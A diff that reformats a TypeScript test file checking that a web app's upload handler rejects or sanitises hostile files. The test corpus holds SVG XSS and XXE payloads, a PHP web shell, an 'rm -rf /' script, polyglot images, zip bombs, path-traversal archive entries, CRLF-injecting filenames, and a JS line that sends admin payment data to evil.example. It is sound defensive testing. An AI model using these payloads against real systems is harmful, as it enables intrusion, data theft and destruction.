@@ -22,12 +22,20 @@ import { kinds, signedIn } from '../support/factories';
 // ---------------------------------------------------------------------------------------------
 // building blocks
 
-const PNG_1x1 = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');
+const PNG_1x1 = Buffer.from(
+  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
+  'base64',
+);
 const GIF_1x1 = Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');
-const JPEG_HEAD = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]);
+const JPEG_HEAD = Buffer.from([
+  0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00,
+  0x00,
+]);
 const JPEG_EOI = Buffer.from([0xff, 0xd9]);
 const HTML = Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
-const JS = Buffer.from('fetch("/api/admin/payments").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))');
+const JS = Buffer.from(
+  'fetch("/api/admin/payments").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))',
+);
 
 const u32be = (n: number) => {
   const b = Buffer.alloc(4);
@@ -42,7 +50,13 @@ const PNG_SIG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
 /** A PNG that declares width × height; `idat` is its (possibly tiny) compressed data. */
 function png(width: number, height: number, extra: Buffer[] = [], idat = deflateRawSync(Buffer.alloc(2))) {
   const ihdr = Buffer.concat([u32be(width), u32be(height), Buffer.from([8, 0, 0, 0, 0])]);
-  return Buffer.concat([PNG_SIG, pngChunk('IHDR', ihdr), ...extra, pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    PNG_SIG,
+    pngChunk('IHDR', ihdr),
+    ...extra,
+    pngChunk('IDAT', idat),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 function gif(width: number, height: number, tail = Buffer.from([0x3b])) {
   const b = Buffer.alloc(13);
@@ -52,7 +66,27 @@ function gif(width: number, height: number, tail = Buffer.from([0x3b])) {
   return Buffer.concat([b, tail]);
 }
 function jpeg(width: number, height: number, extra = Buffer.alloc(0)) {
-  const sof = Buffer.from([0xff, 0xc0, 0x00, 0x11, 0x08, height >> 8, height & 0xff, width >> 8, width & 0xff, 0x03, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1]);
+  const sof = Buffer.from([
+    0xff,
+    0xc0,
+    0x00,
+    0x11,
+    0x08,
+    height >> 8,
+    height & 0xff,
+    width >> 8,
+    width & 0xff,
+    0x03,
+    1,
+    0x22,
+    0,
+    2,
+    0x11,
+    1,
+    3,
+    0x11,
+    1,
+  ]);
   return Buffer.concat([JPEG_HEAD, extra, sof, JPEG_EOI]);
 }
 function webp(payload: Buffer) {
@@ -120,11 +154,19 @@ function zip(entries: ZipEntry[], opts: { entryCountOverride?: number } = {}) {
   eocd.writeUInt32LE(offset, 16);
   return Buffer.concat([...locals, cd, eocd]);
 }
-const CONTENT_TYPES_XML = { name: '[Content_Types].xml', data: Buffer.from('<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>') };
+const CONTENT_TYPES_XML = {
+  name: '[Content_Types].xml',
+  data: Buffer.from(
+    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
+  ),
+};
 const docx = (extra: ZipEntry[] = [], doc: Partial<ZipEntry> = {}) =>
   zip([CONTENT_TYPES_XML, { name: 'word/document.xml', data: Buffer.from('<w:document/>'), ...doc }, ...extra]);
 
-const svg = (body: string, head = '') => Buffer.from(`${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">${body}</svg>`);
+const svg = (body: string, head = '') =>
+  Buffer.from(
+    `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">${body}</svg>`,
+  );
 
 // ---------------------------------------------------------------------------------------------
 // the corpus
@@ -136,7 +178,8 @@ interface Hostile {
   contentType: string;
 }
 const corpus: Hostile[] = [];
-const add = (label: string, bytes: Buffer, filename = 'file.png', contentType = 'image/png') => corpus.push({ label, bytes, filename, contentType });
+const add = (label: string, bytes: Buffer, filename = 'file.png', contentType = 'image/png') =>
+  corpus.push({ label, bytes, filename, contentType });
 
 // SVG: scripts, handlers, external references, entities, foreign content
 const SVGS: [string, Buffer][] = [
@@ -145,21 +188,44 @@ const SVGS: [string, Buffer][] = [
   ['script with external src', svg('<script xlink:href="https://evil.example/x.js"/>')],
   ['uppercase SCRIPT', svg('<SCRIPT>alert(1)</SCRIPT>')],
   ['xhtml-namespaced script', svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>')],
-  ['onload on the root', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="5" height="5"/></svg>')],
+  [
+    'onload on the root',
+    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="5" height="5"/></svg>'),
+  ],
   ['onload with odd whitespace', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload\n=\t"alert(1)"/>')],
   ['onclick on a child', svg('<rect width="5" height="5" onclick="alert(1)" onmouseover="alert(2)"/>')],
   ['javascript: link', svg('<a xlink:href="javascript:alert(1)"><rect width="5" height="5"/></a>')],
   ['javascript: href (SVG2)', svg('<a href="javascript:alert(1)"><text>x</text></a>')],
   ['entity-encoded javascript:', svg('<a href="&#106;avascript:alert(1)"><text>x</text></a>')],
   ['external image', svg('<image href="https://evil.example/track.png" width="5" height="5"/>')],
-  ['data: image', svg('<image xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" width="5" height="5"/>')],
+  [
+    'data: image',
+    svg('<image xlink:href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" width="5" height="5"/>'),
+  ],
   ['external use', svg('<use href="https://evil.example/sprite.svg#icon"/>')],
   ['protocol-relative use', svg('<use xlink:href="//evil.example/sprite.svg#icon"/>')],
-  ['external gradient', svg('<linearGradient id="g" href="https://evil.example/g.svg#x"/><rect fill="url(#g)" width="5" height="5"/>')],
-  ['foreignObject with iframe', svg('<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>')],
-  ['foreignObject with html script', svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>')],
-  ['XXE file entity', svg('<text>&xxe;</text>', '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')],
-  ['XXE http entity', svg('<text>&xxe;</text>', '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>')],
+  [
+    'external gradient',
+    svg('<linearGradient id="g" href="https://evil.example/g.svg#x"/><rect fill="url(#g)" width="5" height="5"/>'),
+  ],
+  [
+    'foreignObject with iframe',
+    svg(
+      '<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/></foreignObject>',
+    ),
+  ],
+  [
+    'foreignObject with html script',
+    svg('<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject>'),
+  ],
+  [
+    'XXE file entity',
+    svg('<text>&xxe;</text>', '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'),
+  ],
+  [
+    'XXE http entity',
+    svg('<text>&xxe;</text>', '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>'),
+  ],
   [
     'billion laughs',
     svg(
@@ -168,11 +234,20 @@ const SVGS: [string, Buffer][] = [
     ),
   ],
   ['style @import', svg('<style>@import url(https://evil.example/x.css);</style><rect width="5" height="5"/>')],
-  ['style url() to a tracker', svg('<style>rect{fill:url(https://evil.example/p.png)}</style><rect width="5" height="5"/>')],
+  [
+    'style url() to a tracker',
+    svg('<style>rect{fill:url(https://evil.example/p.png)}</style><rect width="5" height="5"/>'),
+  ],
   ['style attribute url()', svg('<rect width="5" height="5" style="background:url(https://evil.example/p.png)"/>')],
   ['set to an event handler', svg('<set attributeName="onmouseover" to="alert(1)"/>')],
-  ['animate href to javascript:', svg('<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>')],
-  ['xml-stylesheet instruction', svg('<rect width="5" height="5"/>', '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>')],
+  [
+    'animate href to javascript:',
+    svg('<a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a>'),
+  ],
+  [
+    'xml-stylesheet instruction',
+    svg('<rect width="5" height="5"/>', '<?xml-stylesheet type="text/xsl" href="https://evil.example/x.xsl"?>'),
+  ],
   ['BOM then script', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), svg('<script>alert(1)</script>')])],
   ['comment hiding a script', svg('<!-- --><script>alert(1)</script><!-- -->')],
   ['not well-formed (HTML-style)', Buffer.from('<svg/onload=alert(1)>')],
@@ -193,31 +268,124 @@ add('HTML as .svg', HTML, 'logo.svg', 'image/svg+xml');
 add('JavaScript as .png', JS, 'x.png', 'image/png');
 add('JavaScript as .js', JS, 'x.js', 'application/javascript');
 add('PHP as .jpg', Buffer.from('<?php system($_GET["c"]); ?>'), 'shell.php.jpg', 'image/jpeg');
-add('Windows executable as .png', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]), 'setup.png', 'image/png');
-add('ELF executable as .gif', Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(200)]), 'a.gif', 'image/gif');
+add(
+  'Windows executable as .png',
+  Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200, 0x90)]),
+  'setup.png',
+  'image/png',
+);
+add(
+  'ELF executable as .gif',
+  Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46]), Buffer.alloc(200)]),
+  'a.gif',
+  'image/gif',
+);
 add('shell script as .png', Buffer.from('#!/bin/sh\nrm -rf /\n'), 'run.png', 'image/png');
-add('XHTML as .svg', Buffer.from('<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'), 'x.svg', 'image/svg+xml');
+add(
+  'XHTML as .svg',
+  Buffer.from('<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
+  'x.svg',
+  'image/svg+xml',
+);
 add('HTML sent as text/html', HTML, 'page.html', 'text/html');
-add('XML with an entity as .png', Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'), 'x.png', 'image/png');
+add(
+  'XML with an entity as .png',
+  Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
+  'x.png',
+  'image/png',
+);
 add('PDF as .png', Buffer.from('%PDF-1.4\n%%EOF\n'), 'x.png', 'image/png');
-add('MP4 as .jpg', Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypmp42'), Buffer.alloc(100)]), 'x.jpg', 'image/jpeg');
+add(
+  'MP4 as .jpg',
+  Buffer.concat([Buffer.from([0, 0, 0, 0x18]), Buffer.from('ftypmp42'), Buffer.alloc(100)]),
+  'x.jpg',
+  'image/jpeg',
+);
 
 // polyglots: a real image header with active content inside or after it
-add('GIF+JS polyglot', Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(7), Buffer.from('*/=alert(1);//'), Buffer.from([0x3b])]), 'x.gif', 'image/gif');
-add('GIF with script in a comment extension', gif(1, 1, Buffer.concat([Buffer.from([0x21, 0xfe, 30]), Buffer.from('<script>alert(1)</script>    '), Buffer.from([0, 0x3b])])), 'x.gif', 'image/gif');
+add(
+  'GIF+JS polyglot',
+  Buffer.concat([Buffer.from('GIF89a/*'), Buffer.alloc(7), Buffer.from('*/=alert(1);//'), Buffer.from([0x3b])]),
+  'x.gif',
+  'image/gif',
+);
+add(
+  'GIF with script in a comment extension',
+  gif(
+    1,
+    1,
+    Buffer.concat([
+      Buffer.from([0x21, 0xfe, 30]),
+      Buffer.from('<script>alert(1)</script>    '),
+      Buffer.from([0, 0x3b]),
+    ]),
+  ),
+  'x.gif',
+  'image/gif',
+);
 add('PNG with HTML after IEND', Buffer.concat([PNG_1x1, HTML]), 'x.png', 'image/png');
-add('PNG with HTML in a tEXt chunk', png(1, 1, [pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), HTML]))]), 'x.png', 'image/png');
+add(
+  'PNG with HTML in a tEXt chunk',
+  png(1, 1, [pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), HTML]))]),
+  'x.png',
+  'image/png',
+);
 add('PNG named .html', PNG_1x1, 'x.html', 'text/html');
-add('JPEG with HTML in a COM segment', jpeg(1, 1, Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, HTML.length + 2]), HTML])), 'x.jpg', 'image/jpeg');
+add(
+  'JPEG with HTML in a COM segment',
+  jpeg(1, 1, Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, HTML.length + 2]), HTML])),
+  'x.jpg',
+  'image/jpeg',
+);
 add('JPEG with HTML after EOI', Buffer.concat([jpeg(1, 1), HTML]), 'x.jpg', 'image/jpeg');
-add('WEBP with HTML payload', webp(Buffer.concat([Buffer.from('VP8 '), u32be(HTML.length), HTML])), 'x.webp', 'image/webp');
-add('GIF header then an SVG with script', Buffer.concat([Buffer.from('GIF89a'), svg('<script>alert(1)</script>')]), 'x.svg', 'image/svg+xml');
+add(
+  'WEBP with HTML payload',
+  webp(Buffer.concat([Buffer.from('VP8 '), u32be(HTML.length), HTML])),
+  'x.webp',
+  'image/webp',
+);
+add(
+  'GIF header then an SVG with script',
+  Buffer.concat([Buffer.from('GIF89a'), svg('<script>alert(1)</script>')]),
+  'x.svg',
+  'image/svg+xml',
+);
 add('PNG then PDF', Buffer.concat([PNG_1x1, Buffer.from('%PDF-1.4\n%%EOF')]), 'x.pdf', 'application/pdf');
-add('PDF with a JavaScript action', Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF'), 'draft.pdf', 'application/pdf');
+add(
+  'PDF with a JavaScript action',
+  Buffer.from(
+    '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF',
+  ),
+  'draft.pdf',
+  'application/pdf',
+);
 add('PDF then HTML', Buffer.concat([Buffer.from('%PDF-1.4\n'), HTML]), 'draft.pdf', 'application/pdf');
-add('docx with an HTML part', docx([{ name: 'word/evil.html', data: HTML }]), 'draft.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document');
-add('Word 97 header then HTML', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.from('WordDocument', 'utf16le'), HTML]), 'draft.doc', 'application/msword');
-add('OLE2 container that is not Word', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.from('Workbook', 'utf16le'), Buffer.alloc(100)]), 'book.doc', 'application/msword');
+add(
+  'docx with an HTML part',
+  docx([{ name: 'word/evil.html', data: HTML }]),
+  'draft.docx',
+  'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+);
+add(
+  'Word 97 header then HTML',
+  Buffer.concat([
+    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
+    Buffer.from('WordDocument', 'utf16le'),
+    HTML,
+  ]),
+  'draft.doc',
+  'application/msword',
+);
+add(
+  'OLE2 container that is not Word',
+  Buffer.concat([
+    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
+    Buffer.from('Workbook', 'utf16le'),
+    Buffer.alloc(100),
+  ]),
+  'book.doc',
+  'application/msword',
+);
 
 // truncated images
 add('PNG signature only', PNG_SIG, 'x.png');
@@ -237,7 +405,11 @@ add('zip signature only as .docx', Buffer.from([0x50, 0x4b, 0x03, 0x04]), 'draft
 add('PNG 65535×65535', png(65535, 65535), 'flood.png');
 add('PNG 2^31-1 × 2^31-1', png(0x7fffffff, 0x7fffffff), 'flood.png');
 add('PNG 0×0', png(0, 0), 'zero.png');
-add('PNG 1×1e6 with 1 MB of zeros deflated', png(1, 1_000_000, [], deflateRawSync(Buffer.alloc(1_000_000))), 'flood.png');
+add(
+  'PNG 1×1e6 with 1 MB of zeros deflated',
+  png(1, 1_000_000, [], deflateRawSync(Buffer.alloc(1_000_000))),
+  'flood.png',
+);
 add('GIF 65535×65535', gif(65535, 65535), 'flood.gif', 'image/gif');
 add('JPEG 65500×65500', jpeg(65500, 65500), 'flood.jpg', 'image/jpeg');
 add('WEBP 16384×16384', webpVp8x(16384, 16384), 'flood.webp', 'image/webp');
@@ -252,22 +424,56 @@ add(
   'bomb.docx',
   DOCX_TYPE,
 );
-add('docx: 2,001 parts', docx(Array.from({ length: 2000 }, (_, i) => ({ name: `p/${i}`, data: Buffer.alloc(0) }))), 'many.docx', DOCX_TYPE);
+add(
+  'docx: 2,001 parts',
+  docx(Array.from({ length: 2000 }, (_, i) => ({ name: `p/${i}`, data: Buffer.alloc(0) }))),
+  'many.docx',
+  DOCX_TYPE,
+);
 const zip64 = docx();
 // Zip64 marker: the entry count says 0xffff
 zip64.writeUInt16LE(0xffff, zip64.length - 12);
 zip64.writeUInt16LE(0xffff, zip64.length - 14);
 add('docx: entry count says 65535 (Zip64)', zip64, 'zip64.docx', DOCX_TYPE);
-add('docx: directory claims more entries than it has', zip([CONTENT_TYPES_XML, { name: 'word/document.xml', data: Buffer.from('<w:document/>') }], { entryCountOverride: 50 }), 'lie.docx', DOCX_TYPE);
+add(
+  'docx: directory claims more entries than it has',
+  zip([CONTENT_TYPES_XML, { name: 'word/document.xml', data: Buffer.from('<w:document/>') }], {
+    entryCountOverride: 50,
+  }),
+  'lie.docx',
+  DOCX_TYPE,
+);
 add('docx: without word/document.xml', zip([CONTENT_TYPES_XML]), 'notword.docx', DOCX_TYPE);
-add('docx: path-traversal part names', docx([{ name: '../../../../tmp/evil.sh', data: Buffer.from('#!/bin/sh') }, { name: '/etc/cron.d/x', data: Buffer.from('x') }]), 'slip.docx', DOCX_TYPE);
+add(
+  'docx: path-traversal part names',
+  docx([
+    { name: '../../../../tmp/evil.sh', data: Buffer.from('#!/bin/sh') },
+    { name: '/etc/cron.d/x', data: Buffer.from('x') },
+  ]),
+  'slip.docx',
+  DOCX_TYPE,
+);
 add('plain zip as .docx', zip([{ name: 'readme.txt', data: Buffer.from('hi') }]), 'x.docx', DOCX_TYPE);
 add('docx as .png', docx(), 'x.png', 'image/png');
 
 // oversized
 add('PNG of 5 MB + 1 byte', Buffer.concat([PNG_1x1, Buffer.alloc(5 * 1024 * 1024 + 1 - PNG_1x1.length)]), 'big.png');
-add('PDF of 25 MB + 1 byte', Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(25 * 1024 * 1024 + 1 - 9)]), 'big.pdf', 'application/pdf');
-add('SVG of 5 MB + 1 byte', Buffer.concat([Buffer.from('<svg xmlns="http://www.w3.org/2000/svg">'), Buffer.alloc(5 * 1024 * 1024 + 1 - 46, 0x20), Buffer.from('</svg>')]), 'big.svg', 'image/svg+xml');
+add(
+  'PDF of 25 MB + 1 byte',
+  Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(25 * 1024 * 1024 + 1 - 9)]),
+  'big.pdf',
+  'application/pdf',
+);
+add(
+  'SVG of 5 MB + 1 byte',
+  Buffer.concat([
+    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg">'),
+    Buffer.alloc(5 * 1024 * 1024 + 1 - 46, 0x20),
+    Buffer.from('</svg>'),
+  ]),
+  'big.svg',
+  'image/svg+xml',
+);
 add('empty file', Buffer.alloc(0), 'empty.png');
 
 // hostile names on harmless content (the name must never reach the disk or a header)
@@ -286,7 +492,7 @@ const NAMES = [
   'x.png.html',
   'x.svg',
   'x'.repeat(5000) + '.png',
-  'x";filename*=UTF-8\'\'evil.html',
+  "x\";filename*=UTF-8''evil.html",
   '😀.png',
   '',
   ' ',
@@ -294,7 +500,13 @@ const NAMES = [
   'x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>.png',
 ];
 for (const name of NAMES) add(`name ${JSON.stringify(name.slice(0, 40))}`, PNG_1x1, name);
-for (const name of NAMES.slice(0, 6)) add(`document name ${JSON.stringify(name.slice(0, 40))}`, Buffer.from('%PDF-1.4\n%%EOF\n'), name.replace(/png/g, 'pdf'), 'application/pdf');
+for (const name of NAMES.slice(0, 6))
+  add(
+    `document name ${JSON.stringify(name.slice(0, 40))}`,
+    Buffer.from('%PDF-1.4\n%%EOF\n'),
+    name.replace(/png/g, 'pdf'),
+    'application/pdf',
+  );
 
 // ---------------------------------------------------------------------------------------------
 
@@ -315,11 +527,20 @@ const GENERATED = /^[0-9a-f]{32}\.(png|jpg|gif|webp|svg|pdf|doc|docx)$/;
 let t: TestApp;
 let admin: Agent;
 let brand: Agent;
-const results: { accepted: number; refused: number; byStatus: Record<number, number>; stored: string[]; svgRebuilt: number } = { accepted: 0, refused: 0, byStatus: {}, stored: [], svgRebuilt: 0 };
+const results: {
+  accepted: number;
+  refused: number;
+  byStatus: Record<number, number>;
+  stored: string[];
+  svgRebuilt: number;
+} = { accepted: 0, refused: 0, byStatus: {}, stored: [], svgRebuilt: 0 };
 
 beforeAll(async () => {
   t = await createTestApp();
-  [{ agent: admin }, { agent: brand }] = await Promise.all([signedIn(t.app, t.db, kinds.admin), signedIn(t.app, t.db, kinds.approvedBrand)]);
+  [{ agent: admin }, { agent: brand }] = await Promise.all([
+    signedIn(t.app, t.db, kinds.admin),
+    signedIn(t.app, t.db, kinds.approvedBrand),
+  ]);
 });
 afterAll(async () => {
   process.stdout.write(
@@ -391,7 +612,10 @@ describe('hostile files', () => {
         if (name.endsWith('.svg')) {
           results.svgRebuilt++;
           expect(target.label, `${what}: SVG is only for logos`).toBe('logo');
-          expect(unsafeSvg(onDisk.toString('utf8')), `${what}\nstored: ${onDisk.toString('utf8').slice(0, 500)}`).toBeNull();
+          expect(
+            unsafeSvg(onDisk.toString('utf8')),
+            `${what}\nstored: ${onDisk.toString('utf8').slice(0, 500)}`,
+          ).toBeNull();
         } else {
           // raster images are kept byte for byte: served inert, never decoded on the server
           expect(onDisk.equals(file.bytes), what).toBe(true);
@@ -414,13 +638,18 @@ describe('hostile files', () => {
   it('nothing was written outside the uploads directory, and only generated names inside it', () => {
     const root = path.dirname(t.uploadsDir);
     const walk = (dir: string): string[] =>
-      readdirSync(dir).flatMap((n) => (statSync(path.join(dir, n)).isDirectory() ? walk(path.join(dir, n)).map((m) => `${n}/${m}`) : [n]));
+      readdirSync(dir).flatMap((n) =>
+        statSync(path.join(dir, n)).isDirectory() ? walk(path.join(dir, n)).map((m) => `${n}/${m}`) : [n],
+      );
     const everything = walk(root);
     for (const f of everything) {
       if (f.startsWith('mail/')) continue;
-      expect(f, 'a file outside uploads/ or with a name not of ours').toMatch(/^uploads\/[0-9a-f]{32}\.(png|jpg|gif|webp|svg|pdf|doc|docx)$/);
+      expect(f, 'a file outside uploads/ or with a name not of ours').toMatch(
+        /^uploads\/[0-9a-f]{32}\.(png|jpg|gif|webp|svg|pdf|doc|docx)$/,
+      );
     }
     expect(everything.filter((f) => f.startsWith('uploads/')).length).toBe(results.stored.length);
-    for (const target of ['/tmp/evil.sh', path.join(root, 'evil.png'), path.join(root, '..', 'evil.png')]) expect(existsSync(target), target).toBe(false);
+    for (const target of ['/tmp/evil.sh', path.join(root, 'evil.png'), path.join(root, '..', 'evil.png')])
+      expect(existsSync(target), target).toBe(false);
   });
 });
